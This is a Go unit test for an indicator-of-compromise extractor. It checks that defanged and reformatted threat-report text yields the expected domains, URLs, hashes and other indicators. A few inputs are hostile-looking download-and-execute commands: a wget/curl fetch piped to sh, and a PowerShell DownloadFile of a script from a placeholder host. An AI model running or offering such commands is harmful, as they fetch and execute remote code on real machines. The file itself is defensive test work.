package scan

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

const (
	md5A    = "5f4dcc3b5aa765d61d8327deb882cf99"
	md5B    = "7c6a180b36896a0a8c02787eeafb0e4c"
	sha1A   = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"
	sha256A = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
	sha256B = "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752"
	onionV3 = "6qio7itysjhfbvtm4njav4vopzs7xtjezl3ulnxudv3i42evrmw5g4id.onion"
)

// styles are texts in the ways that reports are written, and the indicators in
// them; what stands there as context is left out.
var styles = []struct{ name, text, want string }{
	// defanged
	{"brackets", "evil[.]example, b{.}evil{.}example, c(.)evil(.)example", "domain evil.example|domain b.evil.example|domain c.evil.example"},
	{"words", "evil[dot]example and bad(dot)example and worse[d]example, lo[punto]example", "domain evil.example|domain bad.example|domain worse.example|domain lo.example"},
	{"spoken", "go to evil dot example dot com now", "domain evil.example.com"},
	{"halves", "evil[.example and bad.]example and worse].]example and evil[[.]]test", "domain evil.example|domain bad.example|domain worse.example|domain evil.test"},
	{"spaces round", "C2: evil [.] example and 192.0.2[.] 7", "domain evil.example|ipv4 192.0.2.7"},
	{"spaced plain", "host www . evil . example was down", "domain www.evil.example"},
	{"schemes", "hxxp://a.example/x hXXps://b.example h**p://c.example/z meow://d.example/q fxp://e.example/f h[xx]p://f.example/g hxxp[s]://g.example/h",
		"url http://a.example/x|url https://b.example/|url http://c.example/z|url http://d.example/q|url ftp://e.example/f|url http://f.example/g|url https://g.example/h"},
	{"scheme colons", "hxxp[:]//a.example/x hxxp[://]b.example/y hxxps[:]//c[.]example[/]z http:// d.example", "url http://a.example/x|url http://b.example/y|url https://c.example/z|domain d.example"},
	{"bracket www", "hxxps://[www].evil[.]example/login", "url https://www.evil.example/login"},
	{"mail", "boss[at]evil[.]example, x (at) evil (dot) example, y@evil[.]example, z[@]evil.example, q(собака)evil.example",
		"email boss@evil.example|email x@evil.example|email y@evil.example|email z@evil.example|email q@evil.example"},
	{"mail parts", "write first.last+tag@sub.evil.example or o_k-1@evil.example.", "email first.last+tag@sub.evil.example|email o_k-1@evil.example"},
	{"full width", "evil．example и evil。test", "domain evil.example|domain evil.test"},
	{"entities", "http://a&#46;example/q?x=1&amp;y=2 evil&#46;example", "url http://a.example/q?x=1&y=2|domain evil.example"},
	{"invisible", "ev\u200bil.example bad\u00adsite.example", "domain evil.example|domain badsite.example"},
	{"ipv6 defanged", "2001[:]db8[:]0[:]0[:]0[:]0[:]0[:]5 and 2001:db8[::]9", "ipv6 2001:db8::5|ipv6 2001:db8::9"},

	// carriers
	{"json", `{"url":"http:\/\/evil.example\/a","ip":"192.0.2.7","path":"C:\\ProgramData\\x.dll","note":"seen\nbad.example\tnow"}`, `url http://evil.example/a|ipv4 192.0.2.7|path C:\ProgramData\x.dll|domain bad.example`},
	{"json unicode", `"u":"http://evil.example/a?b=1\u0026c=2"`, "url http://evil.example/a?b=1&c=2"},
	{"markdown", "[click](https://evil.example/md) and `bad.example` and **worse.example** and <http://x.example/y>", "url https://evil.example/md|domain bad.example|domain worse.example|url http://x.example/y"},
	{"asciidoc", "| `+evil[.]example+` | `++198.51.100[.]9++` |", "domain evil.example|ipv4 198.51.100.9"},
	{"html", `<td>evil<wbr>.example</td><a href="http://bad.example/q">x</a>`, "domain evil.example|url http://bad.example/q"},
	{"yara", `rule r { strings: $a = "http://evil.example/gate.php" $b = "C:\\Users\\Public\\x.exe" condition: any of them }`, `url http://evil.example/gate.php|path C:\Users\Public\x.exe`},
	{"sigma", "detection:\n  selection:\n    DestinationHostname|endswith: '.evil.example'\n  tags:\n    - attack.t1105\n    - attack.t1059.001", "domain evil.example|attack T1105|attack T1059.001"},
	{"snort", `alert dns any any -> any any (msg:"x"; content:"evil|2e|example"; reference:md5,` + md5A + `; sid:2000001; rev:3;)`, "domain evil.example|md5 " + md5A},
	{"powershell", `$u = 'http://ev' + 'il.exam' + 'ple/a.ps1'; (New-Object Net.WebClient).DownloadFile($u,'C:\ProgramData\a.ps1')`, `url http://evil.example/a.ps1|path C:\ProgramData\a.ps1`},
	{"regex", `evil\.example and http:\/\/bad\.example\/x`, "domain evil.example|url http://bad.example/x"},
	{"csv", "type,value\nip,192.0.2.7\nurl,http://evil.example/a,high\ndomain,bad.example,low\n", "ipv4 192.0.2.7|url http://evil.example/a|domain bad.example"},
	{"csv asn", "ip,asn,cc\n192.0.2.7,64500,XX\n198.51.100.9,64501,YY\n", "ipv4 192.0.2.7|asn AS64500|ipv4 198.51.100.9|asn AS64501"},
	{"proxy log", "1732435200.123 45 192.0.2.7 TCP_MISS/200 512 GET http://evil.example/a?b=c - DIRECT/198.51.100.9 text/html", "ipv4 192.0.2.7|url http://evil.example/a?b=c|ipv4 198.51.100.9"},
	{"shell", "wget -qO- http://203.0.113.77/bins.sh;chmod 777 bins.sh; curl 203.0.113.78/x|sh", "url http://203.0.113.77/bins.sh|url http://203.0.113.78/x"},
	{"separators", "a.example,b.example;c.example|d.example / 192.0.2.1/192.0.2.2", "domain a.example|domain b.example|domain c.example|domain d.example|ipv4 192.0.2.1|ipv4 192.0.2.2"},
	{"tweet", "New #phish hxxps://login-evil[.]example/a @abuse_team cc @bank.example #ioc 198[.]51[.]100[.]9:8443", "url https://login-evil.example/a|ipv4 198.51.100.9"},
	{"spanish", "El dominio evil[.]example resuelve a 192.0.2[.]7; véase también malo(punto)example.", "domain evil.example|ipv4 192.0.2.7|domain malo.example"},
	{"russian", "Домен злой.example и адрес 192[.]0[.]2[.]7, почта x(собака)evil.example", "domain xn--g1aefm.example|ipv4 192.0.2.7|email x@evil.example"},
	{"chinese", "访问evil.example下载，地址为192.0.2.7。然后http://bad.example/a，结束", "domain evil.example|ipv4 192.0.2.7|url http://bad.example/a"},
	{"german", "Die Schadsoftware kontaktiert hxxp://böse[.]example/ä und 192.0.2[.]7.", "url http://xn--bse-sna.example/ä|ipv4 192.0.2.7"},

	// URLs
	{"url ends", "See (http://a.example/b_(c)), then http://d.example/e. And \"http://f.example/g\"! http://h.example/i...", "url http://a.example/b_(c)|url http://d.example/e|url http://f.example/g|url http://h.example/i"},
	{"url parameters", "http://a.example/p;jsessionid=1?x=a,b&y[0]=2#z", "url http://a.example/p;jsessionid=1?x=a,b&y[0]=2#z"},
	{"url hosts", "http://3405803783/a http://0xcb007107/b http://[2001:db8::5]:8080/c http://u:p@evil.example:81/d", "url http://203.0.113.7/a|url http://203.0.113.7/b|url http://[2001:db8::5]:8080/c|url http://u:p@evil.example:81/d"},
	{"url bare", "evil.example/gate.php and 198.51.100.9:8080/x.bin and www.bad.example", "url http://evil.example/gate.php|url http://198.51.100.9:8080/x.bin|domain www.bad.example"},
	{"url zip", "fetched from http://payload.zip/ only", "url http://payload.zip/"},
	{"url wrapped", "It fetches http://evil.example/a/very/long/path/that/goes/on/and/\non/until-the.php?x=1\nand stops.", "url http://evil.example/a/very/long/path/that/goes/on/and/on/until-the.php?x=1"},
	{"url list", "http://a.example/x/\nhttp://b.example/y/\nbad.example/z\n", "url http://a.example/x/|url http://b.example/y/|url http://bad.example/z"},
	{"domain wrapped", "the host evil-login[.]\nexample was used", "domain evil-login.example"},

	// hashes
	{"hashes", "MD5: " + strings.ToUpper(md5A) + "\nSHA1=" + sha1A + " sha256:" + sha256A, "md5 " + md5A + "|sha1 " + sha1A + "|sha256 " + sha256A},
	{"wrapped hash", "SHA256: " + sha256A[:40] + "\n        " + sha256A[40:] + "\nnext", "sha256 " + sha256A},
	{"halved hash", "SHA-256 | " + sha256A[:32] + "\n" + sha256A[32:] + "\n", "sha256 " + sha256A},
	{"hash list", md5A + "\n" + md5B + "\n", "md5 " + md5A + "|md5 " + md5B},
	{"imphash", "imphash: " + md5A + ", JA3 " + md5B, "imphash " + md5A + "|ja3 " + md5B},
	{"ja4", "JA4 t13d1516h2_8daaf6152771_02713d6af862", "ja4 t13d1516h2_8daaf6152771_02713d6af862"},
	{"ssdeep", "ssdeep 96:s4Ud1Lj96tHHlZDrwciQmA:sF1LjEtHHlZDrJzrhuy, done", "ssdeep 96:s4Ud1Lj96tHHlZDrwciQmA:sF1LjEtHHlZDrJzrhuy"},
	{"image digest", "registry.example/app@sha256:" + sha256A, "sha256 " + sha256A},

	// codes
	{"cve", "CVE-2026-1234, cve-2026-12345, CVE–2026–0001, CVE-2026-\n4321", "cve CVE-2026-1234|cve CVE-2026-12345|cve CVE-2026-0001|cve CVE-2026-4321"},
	{"attack", "T1059.001 (TA0002) and T1105; not T800 nor S0154", "attack T1059.001|attack TA0002|attack T1105"},
	{"asn", "AS64500, ASN 64501, AS 64502, \"asn\": 64503", "asn AS64500|asn AS64501|asn AS64502|asn AS64503"},
	{"wallets", "pay bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 or 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 or 0xecd747170ccc26ed759228a5130362d061128f3e", "btc bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4|eth 0xEcD747170CCC26ED759228a5130362d061128F3E"},
	{"onion", "http://" + onionV3 + "/x and expyuzz4wqqyqhjn.onion and aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion", "url http://" + onionV3 + "/x|onion expyuzz4wqqyqhjn.onion"},

	// systems
	{"registry", `sets HKCU\Software\Microsoft\Windows NT\CurrentVersion\Run\Upd. Then HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\x`, `registry HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Run\Upd|registry HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\x`},
	{"registry powershell", `New-Item -Path "HKCU:\Software\Evil Corp\Key" -Force`, `registry HKEY_CURRENT_USER\Software\Evil Corp\Key`},
	{"paths", `C:\Program Files\Evil App\run.exe /s, %APPDATA%\x\y.dll and \\srv\share\z.exe, /tmp/.x/kinsing and ~/.cache/evil`, `path C:\Program Files\Evil App\run.exe|path %APPDATA%\x\y.dll|path \\srv\share\z.exe|path /tmp/.x/kinsing|path ~/.cache/evil`},
	{"mutex", "creates the mutex Global\\EvilMutex and a mutex named \"evil-7781\".", `mutex Global\EvilMutex|mutex evil-7781`},
	{"mutex list", "Mutexes:\n- qwe77_x\n- {7A1B-evil}\n\nDomains:\n- evil.example\n", "mutex qwe77_x|mutex {7A1B-evil}|domain evil.example"},

	// addresses
	{"addresses", "192.0.2.7:443, 198.51.100.0/24, 2001:db8::1, [2001:db8::2]:53, 2001:db8:1::/48", "ipv4 192.0.2.7|cidr 198.51.100.0/24|ipv6 2001:db8::1|ipv6 2001:db8::2|cidr 2001:db8:1::/48"},
	{"range", "198.51.100.7-198.51.100.9", "ipv4 198.51.100.7|ipv4 198.51.100.9"},
	{"ssh", "ssh root@192.0.2.7 and git clone git@code.example:x/y.git and user@host.example:~$ ls", "ipv4 192.0.2.7"},

	// nothing
	{"files", "Run setup.py, build.sh, readme.md, report.pdf with Node.js and ASP.NET or command.com; see main.rs", ""},
	{"versions", "version 10.4.3.2, build 1.2.3.4.5, v2.0.1.7, Firmware 2.4.1.8, Chrome/91.0.4472.124, OpenSSL 1.1.1.2, section 3.2.1.7, OID 1.3.6.1", ""},
	{"nothing addresses", "0.0.0.0 127.0.0.1 255.255.255.255 01.02.03.04 300.1.1.1 ::1", ""},
	{"code", "org.apache.commons.io uses System.IO and user.me(x), this.name = a.b; e.g. i.e. U.S.A. obj.method()", ""},
	{"detections", "MSIL/Tiny.BG Trojan.Win32.Agent.ml Win64/HackTool.Mimikat.A Backdoor:Linux/Mirai.AB", ""},
	{"sentence", "We are done.It was late.In the end.So what", ""},
	{"guid", "{5f4dcc3b-5aa7-65d6-1d83-27deb882cf99} 00000000000000000000000000000000 " + strings.Repeat("a", 33), ""},
	{"commit", "commit " + sha1A + "\ntree " + sha1A + "\nFixed in commit " + sha1A, ""},
	{"transaction", "transaction 0x" + sha256A + " and txid " + sha256B, ""},
	{"packages", "pip install requests==2.31.0 lodash@4.17.21 left-pad@1.3.0 com.google.guava:guava:31.1", ""},
	{"cpe", "cpe:2.3:a:vendor:product:10.0.1.2:*:*:*:*:*:*:* S-1-5-21-1004336348-1177238915-682003330-512", ""},
	{"serial", "serial 0a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9", ""},
	{"times", "at 10:11:12 on 2026.11.24, price 1.299.00, 3.14", ""},
	{"base64", "powershell -enc aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkA/evil+x==", ""},
	{"cwe", "CWE-79 CVSS:3.1/AV:N/AC:L RFC 2606 ISO 27001 KB5005565 MS17-010", ""},
	{"mentions", "thanks @researcher and @evil.example and name@localhost", ""},
	{"link", "The blog is at https://vendor.example/2026/03/01/some-title/ and https://vendor.example/research/how-the-evil-fox-came-to-town", ""},
	{"user agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.71 Safari/537.36", ""},
	{"double ending", "the attachment invoice.pdf.com was run", ""},
	{"sender and victim", "The mail came from \"Bob\" <bob@evil.example> to jane@victim.example; write to pay@bad.example, abuse at abuse@host.example", "email bob@evil.example|email pay@bad.example"},
	{"mail header", "To: <jane@victim.example>\nReceived: from relay.evil.example (unknown [192.0.2.7]) by mx.victim.example with ESMTPS id 4\nReply-To: x@evil.example", "domain relay.evil.example|ipv4 192.0.2.7|email x@evil.example"},
	{"hyphenated", "seen on mal-\nware.evil.example and then", "domain malware.evil.example"},
	{"numbered fold", "01  " + sha256A[:32] + "\n    " + sha256A[32:] + "\n02  " + sha256B + "\n", "sha256 " + sha256A + "|sha256 " + sha256B},
	{"numbered list", "MD5\n1. " + md5A + "\n   " + md5B + "\n", "md5 " + md5A + "|md5 " + md5B},
	{"fold in three", "SHA256: " + sha256A[:24] + "\n" + sha256A[24:48] + "\n" + sha256A[48:], "sha256 " + sha256A},
	{"chinese sentence", "样本MD5：" + md5A + "。C2地址：192.0.2.7:8080。", "md5 " + md5A + "|ipv4 192.0.2.7"},
	{"japanese", "悪性サイト「evil.example」にアクセス。通信先はhxxps://bad[.]example/a です。", "domain evil.example|url https://bad.example/a"},
	{"apple paths", "~/Library/LaunchAgents/com.evil.plist, /Applications/Evil App.app/Contents/MacOS/Evil and /Library/Application Support/x/y", "path ~/Library/LaunchAgents/com.evil.plist|path /Applications/Evil App.app/Contents/MacOS/Evil|path /Library/Application Support/x/y"},
	{"path with words", `runs C:\Users\Public\update service.exe and C:\ProgramData\x.dll,Start; PS C:\Users\bob> dir`, `path C:\Users\Public\update service.exe|path C:\ProgramData\x.dll`},
	{"more asn", "sample,c2,asn\n" + md5A + ",evil.example:443,64500\n\"" + md5B + "\",\"192.0.2.7:80\",\"64501\"\n", "md5 " + md5A + "|domain evil.example|asn AS64500|md5 " + md5B + "|ipv4 192.0.2.7|asn AS64501"},
	{"sub-technique", "T1055/012 and [T1566.002] and attack.execution", "attack T1055.012|attack T1566.002"},
	{"defanged text has links", "C2 evil[.]example. We read https://vendor.example/about and C2: https://dead.example/drop", "domain evil.example|url https://dead.example/drop"},
	{"link in plain text", "It loads https://evil.example/a from there", "url https://evil.example/a"},
	{"looked up", "https://www.virustotal.com/gui/file/x and https://attack.mitre.org/techniques/T1059/", ""},
	{"properties", "window.location.host, e.target.name, this.id, requestUri.host", ""},
	{"more detections", "W32.Agent.com, PUA.Tool.in, Gen:Variant.Razy.in, HEUR:Trojan.Script.Agent.gen", ""},
	{"small versions", "nginx 1.18.0.1 and agent 4.3.2.1, but C2 4.3.2.1", "ipv4 4.3.2.1"},
	{"session", "Cookie: PHPSESSID=" + md5A + "; hash=" + md5B, "md5 " + md5B},
	{"names of files by heading", "File names:\nevil.zip\nbad.sh\n\nDomains:\nevil.zip\n", "domain evil.zip"},
	{"typed cells", "payload.sh,hostname,x\nother.sh,file,y\n", "domain payload.sh"},
	{"cell broken by br", "| SHA-256 |\n|---|\n| " + sha256A[:32] + "<br>" + sha256A[32:] + " |\n", "sha256 " + sha256A},
	{"broken at dots", "hosts north.evil-site.\nexample and bad-site\n.example and 192.0.\n2.7, mail boss@\nevil.example.\nAfter that it was over.\nexample", "domain north.evil-site.example|domain bad-site.example|ipv4 192.0.2.7|email boss@evil.example"},
	{"sentence end is no break", "it was evil.example.\nbad.example came later", "domain evil.example|domain bad.example"},
	{"short hosts with a path", "got transfer.sh/abc/evil.zip", "url http://transfer.sh/abc/evil.zip"},
	{"code host", "https://code.example/a/b/commit/" + sha1A + " and https://code.example/evil/loader", "url https://code.example/evil/loader"},
	{"french", "courriel pirate[arobase]evil[point]example ; C2 http://evil.example:8080/gate.php?id=1&t=2 ;", "email pirate@evil.example|url http://evil.example:8080/gate.php?id=1&t=2"},
	{"shouted", "EVIL-CORP.EXAMPLE, HTTP://EVIL.EXAMPLE/A, Www.Bad.Example", "domain evil-corp.example|url http://evil.example/A"},
	{"reverse name", "7.2.0.192.in-addr.arpa", ""},
	{"java names", "package com.evil.bank.trojan, class com.evil.bank.MainActivity, java.lang.String, os.path.join, Microsoft.Win32.TaskScheduler.dll", ""},
	{"windows event", `{"NewProcessName":"C:\\Windows\\Temp\\evil.exe","ParentProcessName":"C:\\Windows\\explorer.exe","Sid":"S-1-5-21-1-2-3-500"}`, `path C:\Windows\Temp\evil.exe`},
	{"mutex forms", "mutex=AsyncMutex_6SI8 , Mutex: \"DCRat_x1\". The malware uses a mutex to ensure that.", "mutex AsyncMutex_6SI8|mutex DCRat_x1"},
	{"request", "GET /a/" + md5A + "/b.php?l=x1.cab HTTP/1.1", ""},
}

func TestStyles(t *testing.T) {
	for _, c := range styles {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, f := range Find(c.text) {
				if !f.Context && f.Thing.Kind != "mac" {
					got = append(got, fmt.Sprintf("%s %s", f.Thing.Kind, f.Thing.Value))
				}
			}
			var want []string
			if c.want != "" {
				want = strings.Split(c.want, "|")
			}
			if !slices.Equal(got, want) {
				t.Errorf("in %q\n got %q\nwant %q", c.text, got, want)
			}
		})
	}
}
